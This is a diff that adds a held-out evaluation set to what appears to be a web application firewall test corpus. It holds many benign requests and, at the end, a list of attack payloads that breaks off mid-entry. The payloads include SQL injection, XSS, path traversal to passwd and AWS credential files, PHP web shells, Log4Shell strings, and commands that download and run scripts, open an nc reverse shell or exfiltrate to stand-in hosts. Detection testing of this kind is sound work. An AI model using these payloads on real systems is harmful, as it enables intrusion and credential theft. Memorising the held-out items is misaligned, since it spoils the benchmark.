@@ -2817,3 +2817,760 @@ def heldout4_benign() -> list[CorpusRequest]:
         HELDOUT4_BENIGN_UAS,
     )
     return out + _requests("held-out-4", HELDOUT4_BENIGN_REQUESTS)
+
+
+# -- held out, fifth set: written on 2026-11-27 BEFORE the fourth detection round ---------------
+# Written from public attack-pattern knowledge and from what real sites receive, without running
+# the rules on it (and without reading the rules); committed alone before any rule or engine
+# change. `benchmarks/waf_eval.py` does not total it unless asked (`--heldout5`), which is for
+# the end of the round.
+
+HELDOUT5_BENIGN_TEXT: tuple[str, ...] = (
+    # SQL in posts and questions
+    "SELECT id, name FROM products WHERE name LIKE '%shoe%' ORDER BY id DESC",
+    "why does my LEFT JOIN return NULLs for orders without items?",
+    "TRUNCATE TABLE vs DELETE FROM table -- which is faster?",
+    "UNION vs UNION ALL in postgres, which one removes duplicates?",
+    "sqlalchemy: session.query(User).filter(User.name == 'bob').first()",
+    "WHERE status IN ('open','pending') AND priority >= 2 returns nothing",
+    "mysqldump -u root -p shop > backup.sql takes forever",
+    "grant select on all tables in schema public to readonly;",
+    "PHP: $pdo->prepare('SELECT * FROM t WHERE id = ?') with an array",
+    "1=1 is always true, right? so why does my WHERE 1=1 trick matter",
+    "-- is the SQL comment, and # works too in MySQL",
+    # HTML and JavaScript in posts
+    '<script async src="https://www.googletagmanager.com/gtag/js?id=G-XXXX"></script> where '
+    "do I put this",
+    "use <br> or <br/> in HTML5?",
+    "React: onClick={() => setOpen(!open)} not firing on mobile",
+    "<iframe> embed from YouTube shows a black box",
+    "addEventListener('load', init) vs window.onload = init",
+    "how do I set innerHTML safely? DOMPurify.sanitize(html) enough?",
+    '<a href="#" onclick="return false"> is that bad practice?',
+    "the alert() box shows twice after I click save",
+    "<textarea> keeps its whitespace but <div> does not",
+    'svg <path d="M10 10 L20 20"> not rendering in Firefox',
+    "Angular {{ user.name | uppercase }} pipe not updating",
+    "javascript:void(0) links and accessibility",
+    "use /* and */ for comments in CSS, not //",
+    # shells and system talk
+    "`ls -la | grep .env` shows nothing on the server",
+    "cron: 0 3 * * * /usr/bin/find /tmp -mtime +7 -delete",
+    "curl -X POST -H 'Content-Type: application/json' -d '{\"a\":1}' http://localhost:8080/api",
+    "chmod 600 ~/.ssh/id_rsa fixed the permissions warning",
+    "echo $PATH shows /usr/local/bin twice",
+    "ps aux | grep python | awk '{print $2}' | xargs kill",
+    "cat /etc/os-release says Ubuntu 22.04 but apt says otherwise",
+    "nc -zv db.internal 5432 times out from the container",
+    "Windows: cmd /c dir /s *.log finds nothing",
+    "python -c 'import sys; print(sys.version)' prints 2.7",
+    "what does 2>&1 mean at the end of a command",
+    "set -euo pipefail; trap 'echo failed' ERR",
+    "my access log shows GET /etc/passwd from some bot, should I worry?",
+    "${HOME}/.config/app/settings.json is never created",
+    "template literal `Hello ${name}` prints the dollar sign",
+    "import os; os.path.join('a', 'b') on windows",
+    # shop, support and everyday text
+    "Men's shirt 15½\" collar, slim fit",
+    "Tom & Jerry: The Movie (1992) DVD",
+    "I'd like 3-4 'medium' boxes please",
+    "c'est trop cher ; vous avez moins cher ?",
+    "Größe: 42 — passt das?",
+    "¿Dónde está mi pedido #12345?",
+    "售后服务电话是多少",
+    "Ürün iade süresi kaç gün?",
+    "order #A-1234/B arrived damaged :(",
+    "cats & dogs | pets > toys > chew toys",
+    "rated 4/5 -- would buy again; ~£30",
+    "script for my daughter's school play",
+    "select your size then click 'add to basket'",
+    "it's a drop-in replacement for the old one",
+    "where can I find the exec summary?",
+    "ping me when it's back in stock",
+    "order by date doesn't work on the account page",
+    "passwords like 'P@ss; w0rd' are rejected at signup",
+    "x = 1; y = 2; print(x + y)",
+    "#1 best seller!! 50% off -- today only",
+    "Is it true that 1' = 12\"?",
+    "ordering 2 x 'AA' batteries and 1 x \"C\"",
+    "the cat sat on the mat; then it slept",
+    "and/or: which is correct here?",
+    "my son's name is O'Neil-Smith & he's 7",
+    "the return label says <<FRAGILE>> on it",
+    "Q: 'Where is my refund?' A: 'Within 5-7 days.'",
+    "wine & cheese evening @ 7pm (RSVP by Fri)",
+    "the shell of the case cracked after a drop",
+    "can I exec-ute the return online or only in store?",
+)
+"""Free text, each sent once: as a search, a forum post (form) or a JSON comment, in turn."""
+
+HELDOUT5_BENIGN_QUERIES: tuple[str, ...] = (
+    "q=%22mens+shoes%22+-kids&page=3",
+    "q=o%27reilly+books",
+    "search=%3Cspan%3E+vs+%3Cdiv%3E",
+    "fbclid=IwAR2abc_def-GHI&utm_source=facebook&utm_medium=social",
+    "gclid=Cj0KCQiA-abc_DEF&gad_source=1",
+    "filter%5Bstatus%5D=published&include=author,comments&page%5Bsize%5D=20",
+    "select=id,title,author(name)&order=created_at.desc&limit=10",
+    "q=select+from+where+tutorial",
+    "sort=-price,name&fields%5Bproducts%5D=title,price",
+    "query=%7Bproducts(first%3A5)%7Bedges%7Bnode%7Bid%7D%7D%7D%7D",
+    "hl=en&gl=GB&ceid=GB:en",
+    "returnUrl=%2Faccount%2Forders%3Fpage%3D2",
+    "next=%2Fcheckout%2Fshipping",
+    "lat=51.5074&lng=-0.1278&radius=5km",
+    "q=c%2B%2B+vs+c%23",
+    "ids=1,2,3,4,5&expand=variants",
+    "cb=1700000000&format=json&callback=cb_123",
+    "text=don%27t+stop+me+now&lang=en",
+    "q=%E2%80%9Csmart+quotes%E2%80%9D",
+    "q=1%2F2+inch+pipe+%26+fittings",
+    "color=%23ff0000&size=M",
+    "token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.abc-DEF_ghi",
+)
+"""Whole query strings: searches, ad click ids, JSON:API, PostgREST, GraphQL GET, redirects."""
+
+HELDOUT5_BENIGN_PATHS: tuple[str, ...] = (
+    "/products/select-comfort-pillow",
+    "/blog/union-square-cafe-review",
+    "/docs/api/v2/exec-summary",
+    "/category/shell-jackets",
+    "/collections/drop-shoulder-tees",
+    "/u/jane.doe",
+    "/r/programming/comments/abc123/what_is_etcpasswd",
+    "/wiki/Cross-site_scripting",
+    "/wiki/SQL_injection",
+    "/static/js/main.4f3a2b1c.chunk.js",
+    "/fonts/inter-var-latin.woff2",
+    "/images/products/42/main@2x.webp",
+    "/sitemap_index.xml",
+    "/feed.xml",
+    "/account/orders/2024-0001",
+    "/de-de/produkte/k%C3%BCchenmaschine",
+    "/search/shoes%20%26%20boots",
+    "/cart/add/42/1",
+    "/.well-known/apple-app-site-association",
+    "/ads.txt",
+)
+
+HELDOUT5_BENIGN_JSON: tuple[object, ...] = (
+    {"comment": "Try `SELECT * FROM users WHERE id = $1` with a prepared statement"},
+    {"content": "<blockquote>Great product</blockquote><p>5 stars</p>"},
+    {"snippet": '<button onclick="toggle()">Menu</button>', "lang": "html"},
+    {"message": "cd ~/project && npm install && npm run build"},
+    {"query": "{ user(id: 1) { posts(orderBy: {createdAt: desc}) { title } } }"},
+    {"order": {"items": [{"sku": "A-1", "qty": 2}], "notes": "leave at door; ring twice"}},
+    {"import": "../components/Button", "kind": "module"},
+    {"regex": "^[a-z0-9._%+-]+@[a-z0-9.-]+\\.[a-z]{2,}$"},
+    {"template": "Hello {{name}}, your order {{order_id}} has shipped"},
+    {"sql": "SELECT 1", "database": "analytics"},
+    {"description": "Drop-in replacement; union-made in the USA; 100% cotton"},
+    {"address": "1 O'Brien's Lane", "notes": "gate code #1234*"},
+    {"events": [{"type": "click", "target": "a#buy-now.btn"}]},
+    {"markdown": "```js\nconst x = document.querySelector('#app');\n```"},
+    {"cron": "*/5 * * * *", "command": "php artisan schedule:run"},
+    {"ua": CHROME, "viewport": "390x844"},
+    {"filters": {"price": {"gte": 10, "lte": 50}, "tags": ["sale", "new"]}},
+    {"password": "c0rrect-h0rse; battery 'staple'", "confirm": "c0rrect-h0rse; battery 'staple'"},
+    {"bio": "Full-stack dev. <3 Rust & Go. Opinions my own."},
+    {"search": '"red dress" -maxi', "page": 2},
+    {"title": "Re: [bug] cart total = NaN when qty < 1"},
+    {"payload": {"text": "/deploy production", "user": "sam"}},
+)
+
+HELDOUT5_BENIGN_COOKIES: tuple[str, ...] = (
+    "_fbp=fb.1.1700000000000.123456789; _gcl_au=1.1.123.1700000000",
+    "OptanonConsent=isGDPRRegion=true&datestamp=Mon+Nov+27+2023+10%3A00%3A00+GMT%2B0000"
+    "&version=202310.1.0&groups=C0001%3A1%2CC0002%3A0",
+    "cookieyes-consent=consentid:abc,consent:yes,action:yes,necessary:yes,analytics:no",
+    "connect.sid=s%3Aabc123.def456%2Bghi; theme=dark",
+    "JSESSIONID=ABCDEF1234567890.node1",
+    "ASP.NET_SessionId=abc123def456; .AspNetCore.Antiforgery.xyz=CfDJ8abc-def_ghi",
+    "_shopify_y=abc-123; cart=c1-abc123; cart_currency=GBP",
+    "rack.session=BAh7B0kiD3Nlc3Npb25faWQGOgZFVEkiRTM%3D--abc123",
+    "remember_web_59ba36addc2b2f9401580f014c7f58ea4e30989d=eyJpdiI6Ikx1",
+    "recently_viewed=%5B%2242%22%2C%2217%22%5D; currency=EUR",
+    "search_history=drop%20leaf%20table|union%20jack%20flag",
+    "mp_abc_mixpanel=%7B%22distinct_id%22%3A%20%22123%22%2C%22%24initial_referrer%22%3A%20"
+    "%22%24direct%22%7D",
+)
+
+HELDOUT5_BENIGN_REFERERS: tuple[str, ...] = (
+    "https://www.google.com/",
+    "https://www.google.co.uk/search?q=select+comfort+mattress+review",
+    "https://stackoverflow.com/questions/123/how-to-prevent-sql-injection-in-php",
+    "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s",
+    "https://shop.example.com/search?q=%22shell+jacket%22+%26+boots",
+    "https://www.linkedin.com/",
+    "https://outlook.live.com/",
+    "https://search.yahoo.com/search?p=%3Cdiv%3E+centering",
+    "https://www.baidu.com/s?wd=%E9%9E%8B",
+    "https://owasp.org/www-community/attacks/xss/",
+)
+
+HELDOUT5_BENIGN_UAS: tuple[str, ...] = (
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:126.0) Gecko/20100101 Firefox/126.0",
+    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) "
+    "Chrome/125.0.0.0 Safari/537.36",
+    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
+    "Gecko) Mobile/15E148 Instagram 331.0.0.37.90 (iPhone15,3; iOS 17_5; en_GB; en-GB; "
+    "scale=3.00; 1290x2796; 602284618)",
+    "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) "
+    "Chrome/125.0.0.0 Mobile Safari/537.36",
+    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
+    "Gecko) Mobile/15E148 [FBAN/FBIOS;FBAV/465.0.0.45.108;FBBV/600000000;FBDV/iPhone14,5;"
+    "FBMD/iPhone;FBSN/iOS;FBSV/17.5;FBSS/3;FBID/phone;FBLC/en_GB;FBOP/5]",
+    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
+    "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)",
+    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.0; "
+    "+https://openai.com/gptbot)",
+    "python-requests/2.31.0",
+    "okhttp/4.12.0",
+    "axios/1.6.8",
+    "PostmanRuntime/7.37.3",
+    "Mozilla/5.0 (PlayStation; PlayStation 5/2.26) AppleWebKit/605.1.15 (KHTML, like Gecko)",
+    "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko",
+    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17328; Pro)",
+    "Pinterestbot/1.0 (+http://www.pinterest.com/bot.html)",
+    "UptimeRobot/2.0 (http://www.uptimerobot.com/)",
+)
+"""Desktop and in-app browsers, SEO and AI crawlers, HTTP libraries, consoles, old IE, Office."""
+
+_H5_BOUNDARY = "----WebKitFormBoundary5hQ2xYzA"
+
+
+def _h5_multipart(*parts: tuple[str, str | None, str | None, bytes]) -> bytes:
+    """A multipart body of (name, filename, content type, content) parts."""
+    out = b""
+    for name, filename, ctype, content in parts:
+        disp = f'form-data; name="{name}"' + (f'; filename="{filename}"' if filename else "")
+        head = f"--{_H5_BOUNDARY}\r\nContent-Disposition: {disp}\r\n"
+        if ctype:
+            head += f"Content-Type: {ctype}\r\n"
+        out += head.encode() + b"\r\n" + content + b"\r\n"
+    return out + f"--{_H5_BOUNDARY}--\r\n".encode()
+
+
+_H5_MULTIPART = {"Content-Type": f"multipart/form-data; boundary={_H5_BOUNDARY}"}
+
+HELDOUT5_BENIGN_REQUESTS: tuple[tuple[str, str, str, dict[str, str], bytes | None], ...] = (
+    # (method, path, query, extra headers, body): XML, multipart, several headers at once
+    (
+        "POST",
+        "/soap/customers",
+        "",
+        {"Content-Type": "text/xml; charset=utf-8", "SOAPAction": '"urn:UpdateCustomer"'},
+        b'<?xml version="1.0" encoding="utf-8"?><soap:Envelope xmlns:soap="http://schemas.'
+        b"xmlsoap.org/soap/envelope/\"><soap:Body><UpdateCustomer><Name>O'Brien &amp; Sons"
+        b"</Name><Note>deliver to rear door; code #12</Note></UpdateCustomer></soap:Body>"
+        b"</soap:Envelope>",
+    ),
+    (
+        "POST",
+        "/api/feed",
+        "",
+        {"Content-Type": "application/xml"},
+        b'<?xml version="1.0"?><rss version="2.0"><channel><title>Shop news</title><item>'
+        b"<title>New arrivals</title><description>&lt;p&gt;New &lt;b&gt;arrivals&lt;/b&gt; "
+        b'&amp; &lt;a href="https://shop.example.com/new"&gt;offers&lt;/a&gt;&lt;/p&gt;'
+        b"</description></item></channel></rss>",
+    ),
+    (
+        "POST",
+        "/api/import",
+        "",
+        {"Content-Type": "application/xml; charset=UTF-8"},
+        b'<?xml version="1.0" encoding="UTF-8"?><catalog><product id="42" sku="A-1">'
+        b'<name>Drop-leaf table</name><price currency="GBP">120.00</price><tags><tag>oak'
+        b"</tag><tag>union-made</tag></tags></product></catalog>",
+    ),
+    (
+        "POST",
+        "/rpc",
+        "",
+        {"Content-Type": "text/xml"},
+        b'<?xml version="1.0"?><methodCall><methodName>demo.sayHello</methodName><params>'
+        b"<param><value><string>Hello, world!</string></value></param></params></methodCall>",
+    ),
+    (
+        "POST",
+        "/api/pages",
+        "",
+        {"Content-Type": "application/xhtml+xml"},
+        b'<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 '
+        b'Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html xmlns="http://'
+        b'www.w3.org/1999/xhtml"><head><title>About</title></head><body><p>About us</p></body>'
+        b"</html>",
+    ),
+    (
+        "POST",
+        "/api/orders",
+        "",
+        {"Content-Type": "application/xml"},
+        b'<?xml version="1.0"?><!-- generated by ERP v2 --><order><id>1234</id><note><![CDATA['
+        b"Deliver to rear door; code 1234 -- call if late & leave with 'Bob' at No. 5]]></note>"
+        b"</order>",
+    ),
+    (
+        "POST",
+        "/api/reports",
+        "",
+        {"Content-Type": "application/xml"},
+        b"<?xml version=\"1.0\"?><report><filter>status = 'shipped' AND total &gt; 100</filter>"
+        b"<sort>created_at DESC</sort></report>",
+    ),
+    (
+        "POST",
+        "/webhooks/erp",
+        "",
+        {"Content-Type": "text/xml; charset=utf-8"},
+        '<?xml version="1.0" encoding="utf-8"?><event type="stock"><sku>KÜ-42</sku>'
+        "<name>Küchenmaschine «Pro»</name><qty>7</qty></event>".encode(),
+    ),
+    (
+        "POST",
+        "/api/snippets",
+        "",
+        {"Content-Type": "application/xml"},
+        b'<?xml version="1.0"?><snippet lang="html"><code>&lt;img src="logo.png" alt="Logo"'
+        b"&gt;</code><title>Logo markup</title></snippet>",
+    ),
+    (
+        "POST",
+        "/community/posts",
+        "",
+        _H5_MULTIPART,
+        _h5_multipart(
+            ("title", None, None, b"subprocess question"),
+            (
+                "body",
+                None,
+                None,
+                b"```python\nimport subprocess\nsubprocess.run(['ls', '-l'], check=True)\n```\n"
+                b"why does this hang?",
+            ),
+            ("attachment", "screenshot 1.png", "image/png", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"),
+        ),
+    ),
+    (
+        "POST",
+        "/cms/upload",
+        "",
+        _H5_MULTIPART,
+        _h5_multipart(
+            (
+                "file",
+                "index.html",
+                "text/html",
+                b'<html><head><script src="app.js"></script></head><body onload="init()">'
+                b"</body></html>",
+            ),
+            ("folder", None, None, b"landing-pages"),
+        ),
+    ),
+    (
+        "POST",
+        "/careers/apply",
+        "",
+        _H5_MULTIPART,
+        _h5_multipart(
+            ("name", None, None, "Siobhán O'Neill".encode()),
+            ("cv", "Sam's CV (final).pdf", "application/pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"),
+            ("cover", None, None, b"I'd love to join -- see my work at https://sam.dev/#work"),
+        ),
+    ),
+    (
+        "POST",
+        "/admin/products/42",
+        "",
+        _H5_MULTIPART,
+        _h5_multipart(
+            (
+                "description",
+                None,
+                None,
+                b'<p>Hello <em>there</em>, see <a href="/sale">sale</a></p>',
+            ),
+            ("price", None, None, b"19.99"),
+        ),
+    ),
+    (
+        "POST",
+        "/import/csv",
+        "",
+        _H5_MULTIPART,
+        _h5_multipart(
+            (
+                "file",
+                "orders.csv",
+                "text/csv",
+                b'id,note\r\n1,"select the blue one"\r\n2,"drop off at 5"\r\n3,"a & b; c"\r\n',
+            ),
+        ),
+    ),
+    (
+        "GET",
+        "/products/42",
+        "",
+        {
+            "Accept-Language": "fr-CH, fr;q=0.9, en;q=0.8, de;q=0.7, *;q=0.5",
+            "If-None-Match": 'W/"5e15153d-120f"',
+            "If-Modified-Since": "Wed, 21 Oct 2015 07:28:00 GMT",
+            "Cache-Control": "max-age=0",
+        },
+        None,
+    ),
+    (
+        "GET",
+        "/",
+        "",
+        {
+            "X-Forwarded-For": "203.0.113.195, 70.41.3.18, 150.172.238.178",
+            "X-Real-IP": "203.0.113.195",
+            "X-Forwarded-Port": "443",
+            "X-Forwarded-Proto": "https",
+        },
+        None,
+    ),
+    (
+        "GET",
+        "/account",
+        "",
+        {
+            "True-Client-IP": "198.51.100.23",
+            "Fastly-Client-IP": "198.51.100.23",
+            "X-Client-IP": "198.51.100.23",
+            "Client-IP": "198.51.100.23",
+        },
+        None,
+    ),
+    (
+        "GET",
+        "/api/me",
+        "",
+        {
+            "Authorization": "Bearer eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiI0MiIsIm5hbWUi"
+            "OiJTYW0ifQ.c2lnbmF0dXJlLWJ5dGVz",
+            "X-CSRF-Token": "b1946ac92492d2347c6235b4d2611184",
+            "X-Request-ID": "f47ac10b-58cc-4372-a567-0e02b2c3d479",
+            "Accept": "application/json",
+        },
+        None,
+    ),
+    (
+        "POST",
+        "/graphql",
+        "",
+        {"Content-Type": "application/json; charset=UTF-8"},
+        b'{"operationName":"Search","variables":{"q":"men\'s \\"slim\\" jeans","first":20},'
+        b'"query":"query Search($q: String!, $first: Int) { search(q: $q, first: $first) '
+        b'{ id title } }"}',
+    ),
+    (
+        "PATCH",
+        "/api/users/42",
+        "",
+        {"Content-Type": "application/merge-patch+json"},
+        b'{"nickname": "drop_table_dave", "bio": null}',
+    ),
+    (
+        "POST",
+        "/api/events",
+        "",
+        {"Content-Type": "application/x-ndjson"},
+        b'{"e":"view","p":"/"}\n{"e":"click","t":"#buy"}\n',
+    ),
+    (
+        "POST",
+        "/csp",
+        "",
+        {"Content-Type": "application/csp-report"},
+        b'{"csp-report":{"document-uri":"https://shop.example.com/cart","violated-directive":'
+        b'"img-src","blocked-uri":"data","original-policy":"default-src \'self\'; img-src '
+        b"'self' https://cdn.example.com\"}}",
+    ),
+    ("GET", "/videos/intro.mp4", "", {"Range": "bytes=0-1023"}, None),
+    ("GET", "/api/articles", "page[number]=2", {"Accept": "application/vnd.api+json"}, None),
+    (
+        "GET",
+        "/ws",
+        "",
+        {
+            "Connection": "Upgrade",
+            "Upgrade": "websocket",
+            "Sec-WebSocket-Key": "dGhlIHNhbXBsZSBub25jZQ==",
+            "Sec-WebSocket-Version": "13",
+            "Sec-WebSocket-Extensions": "permessage-deflate; client_max_window_bits",
+        },
+        None,
+    ),
+    (
+        "POST",
+        "/checkout/address",
+        "",
+        {"Content-Type": "application/x-www-form-urlencoded"},
+        b"line1=Flat+2%2FB%2C+10+O%27Connell+St.&city=Dublin&notes=It%27s+the+blue+door+%26+"
+        b"ring+%3C3+times%3E&country=IE",
+    ),
+    (
+        "GET",
+        "/",
+        "",
+        {
+            "Via": "1.1 proxy.corp.example (squid/5.7)",
+            "X-Forwarded-Host": "shop.example.com",
+            "Forwarded": 'for="[2001:db8:cafe::17]:4711";proto=https',
+            "X-Requested-With": "com.example.shopapp",
+        },
+        None,
+    ),
+    (
+        "POST",
+        "/api/upload",
+        "",
+        {"Content-Type": "application/octet-stream"},
+        b"\x00\x01\x02PK\x03\x04'; --<script>\x00\xff\xfe",
+    ),
+    (
+        "POST",
+        "/saml/acs",
+        "",
+        {"Content-Type": "application/x-www-form-urlencoded"},
+        b"SAMLResponse=PHNhbWxwOlJlc3BvbnNlIHhtbG5zOnNhbWxwPSJ1cm46b2FzaXM6bmFtZXM6dGM6U0FNTDoy"
+        b"LjA6cHJvdG9jb2wiIElEPSJfYWJjIiBWZXJzaW9uPSIyLjAiPjwvc2FtbHA6UmVzcG9uc2U%2B"
+        b"&RelayState=%2Faccount",
+    ),
+    (
+        "POST",
+        "/api/svg",
+        "",
+        {"Content-Type": "image/svg+xml"},
+        b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><circle cx="5" cy="5" '
+        b'r="4" fill="#f00"/></svg>',
+    ),
+)
+
+HELDOUT5_ATTACKS: tuple[tuple[str, str, str], ...] = (
+    # (category, delivery, payload); deliveries as in `_deliver`, plus `_deliver5`'s own.
+    ("sqli", "query", "1' AND SLEEP(5)#"),
+    ("sqli", "query", "' OR 1=1 LIMIT 1 -- -"),
+    ("sqli", "double", "1') OR ('1'='1"),
+    ("sqli", "raw", "1%27%20OR%20%271%27%3D%271"),
+    ("sqli", "form", "x' UNION ALL SELECT NULL,NULL,table_name FROM information_schema.tables-- -"),
+    ("sqli", "json", "' OR ''='"),
+    ("sqli", "jsonarray", "1; SELECT pg_sleep(10)--"),
+    ("sqli", "cookie", "1' AND 1=CONVERT(int,@@version)--"),
+    ("sqli", "header:X-Real-IP", "10.0.0.1' AND SLEEP(3)-- -"),
+    ("sqli", "header:X-Forwarded-For", "127.0.0.1' or '1'='1"),
+    ("sqli", "header:Client-IP", "1.1.1.1' UNION SELECT 1,2-- -"),
+    ("sqli", "ua", "Mozilla/5.0' AND (SELECT 5 FROM (SELECT(SLEEP(5)))x)-- -"),
+    ("sqli", "referer", "https://shop.example.com/' OR 1=1#"),
+    ("sqli", "xml", "<user><name>admin' OR '1'='1</name><pass>x</pass></user>"),
+    ("sqli", "textxml", "<GetOrder><id>1 UNION SELECT password FROM users</id></GetOrder>"),
+    (
+        "sqli",
+        "multipart",
+        "1 AND 1=2 UNION SELECT 1,group_concat(user,0x3a,password),3 FROM mysql.user",
+    ),
+    ("sqli", "query", "1'||(SELECT CHR(65)||CHR(66) FROM DUAL)||'"),
+    (
+        "sqli",
+        "query",
+        "1 AND 8573=(SELECT UPPER(XMLType(CHR(60)||CHR(58)||'x'||CHR(62))) FROM DUAL)",
+    ),
+    ("sqli", "query", "1' AnD/**/1=1/**/--"),
+    ("sqli", "double", "admin' or 1=1/*"),
+    ("sqli", "rawquery", "id=-1+union+select+1,2,concat(user(),0x3a,database())--+"),
+    ("sqli", "pathseg", "1' OR '1'='1"),
+    ("sqli", "rawjson", '{"filter": {"$where": "sleep(5000)"}}'),
+    ("sqli", "rawquery", "username[$ne]=x&password[$ne]=x"),
+    ("sqli", "query", "1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))"),
+    ("sqli", "query", "'; EXEC xp_cmdshell 'whoami'--"),
+    ("xss", "query", "<script src=//x.example/x.js></script>"),
+    ("xss", "double", "<img src=x onerror=alert(document.domain)>"),
+    ("xss", "raw", "%3Csvg%20onload%3Dconfirm(1)%3E"),
+    ("xss", "form", '<a href="javascript&colon;alert(1)">click</a>'),
+    ("xss", "json", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
+    ("xss", "jsonarray", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
+    ("xss", "cookie", "<svg><script>alert&#40;1&#41;</script>"),
+    ("xss", "ua", '"><svg onload=alert(1)>'),
+    ("xss", "referer", 'https://x.example/"><script>alert(1)</script>'),
+    ("xss", "header:X-Forwarded-Host", '"><script>alert(1)</script>'),
+    ("xss", "xml", "<comment><body><![CDATA[<img src=x onerror=alert(1)>]]></body></comment>"),
+    ("xss", "xml", "<comment><body>&lt;script&gt;alert(1)&lt;/script&gt;</body></comment>"),
+    (
+        "xss",
+        "textxml",
+        '<profile><avatar url="javascript:alert(document.cookie)"/><name>x</name></profile>',
+    ),
+    ("xss", "multipart", "<body onload=alert('XSS')>"),
+    ("xss", "query", "<marquee onstart=alert(1)>"),
+    ("xss", "query", "'-alert(1)-'"),
+    ("xss", "query", "</title><script>alert(1)</script>"),
+    ("xss", "query", '<img src="x" onerror="&#97;&#108;&#101;&#114;&#116;(1)">'),
+    ("xss", "query", '<a href="data:text/html,<script>alert(1)</script>">x</a>'),
+    ("xss", "query", '<div style="background:url(javascript:alert(1))">'),
+    ("xss", "rawquery", "returnUrl=javascript%3Aalert(1)"),
+    ("xss", "query", "<x onmouseover=alert(1)>hover"),
+    ("xss", "query", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
+    ("xss", "pathseg", "<script>alert(1)</script>"),
+    ("xss", "query", "<form><button formaction=javascript:alert(1)>X"),
+    ("xss", "query", "<embed src=javascript:alert(1)>"),
+    ("lfi", "raw", "../../../../etc/passwd%00.jpg"),
+    ("lfi", "query", "..\\..\\..\\..\\windows\\win.ini"),
+    ("lfi", "double", "../../../../../etc/group"),
+    ("lfi", "raw", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
+    ("lfi", "raw", "..%c0%af..%c0%af..%c0%afetc/passwd"),
+    ("lfi", "raw", "%252e%252e%252fetc%252fpasswd"),
+    ("lfi", "query", "..././..././..././etc/passwd"),
+    ("lfi", "query", "php://filter/read=string.rot13/resource=config.php"),
+    ("lfi", "query", "phar://uploads/avatar.jpg/shell"),
+    ("lfi", "query", "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg=="),
+    ("lfi", "query", "/proc/self/cmdline"),
+    ("lfi", "query", "/root/.bash_history"),
+    ("lfi", "query", "/home/ubuntu/.aws/credentials"),
+    ("lfi", "path", "/.env"),
+    ("lfi", "path", "/.aws/credentials"),
+    ("lfi", "path", "/static/%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
+    ("lfi", "path", "/download?file=../../../../etc/passwd"),
+    ("lfi", "path", "/.htpasswd"),
+    ("lfi", "json", "../../../../../../windows/win.ini"),
+    ("lfi", "jsonarray", "/etc/shadow"),
+    ("lfi", "cookie", "..%2f..%2f..%2fetc%2fpasswd"),
+    ("lfi", "xml", "<doc><template>../../../../etc/passwd</template></doc>"),
+    ("lfi", "multipart", "../../../../proc/self/environ"),
+    ("lfi", "filename", "../../../../var/www/html/shell.php"),
+    ("lfi", "header:Accept", "../../../../../../etc/passwd{{"),
+    ("rce", "query", "| id"),
+    ("rce", "query", "; uname -a"),
+    ("rce", "raw", "%3Bcat%20%2Fetc%2Fpasswd"),
+    ("rce", "double", "`id`"),
+    ("rce", "double", "&& whoami"),
+    ("rce", "form", "8.8.8.8; wget http://203.0.113.5/x.sh -O /tmp/x.sh; sh /tmp/x.sh"),
+    ("rce", "json", "$(curl -s http://x.oast.example/$(whoami))"),
+    ("rce", "jsonarray", "; nc -e /bin/sh 203.0.113.9 4444"),
+    ("rce", "cookie", "; ping -c 3 x.oast.example"),
+    ("rce", "ua", "() { :; }; /bin/bash -c 'cat /etc/passwd'"),
+    ("rce", "referer", "() { ignored; }; echo; /usr/bin/id"),
+    ("rce", "header:X-Api-Version", "${jndi:ldap://x.oast.example/a}"),
+    ("rce", "query", "${j${::-n}di:ldap://x.example/a}"),
+    ("rce", "query", "${${upper:j}ndi:ldap://x.example/a}"),
+    ("rce", "query", ";c''at /e't'c/pa''sswd"),
+    ("rce", "query", ";ca\\t /et\\c/pas\\swd"),
+    ("rce", "query", "a|tac${IFS}/etc/passwd"),
+    ("rce", "raw", "127.0.0.1%0Aid"),
+    ("rce", "query", "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"),
+    ("rce", "query", "<%= `id` %>"),
+    ("rce", "query", "${T(java.lang.Runtime).getRuntime().exec('cat /etc/passwd')}"),
+    ("rce", "form", "<?php echo shell_exec($_REQUEST['cmd']); ?>"),
+    ("rce", "multipart", "<?php eval(base64_decode($_POST['x'])); ?>"),
+    ("rce", "filename", "shell.php"),
+    ("rce", "query", "1;system('cat /etc/passwd');"),
+    ("rce", "json", "__import__('subprocess').check_output('id',shell=True)"),
+    ("rce", "query", "; powershell -nop -w hidden -e SQBFAFgA"),
+    ("rce", "query", "| cmd.exe /c dir C:\\"),
+    ("rce", "query", "& certutil -urlcache -split -f http://x.example/a.exe a.exe"),
+    ("rce", "xml", '<!DOCTYPE r [<!ENTITY % x SYSTEM "http://x.oast.example/evil.dtd"> %x;]><r/>'),
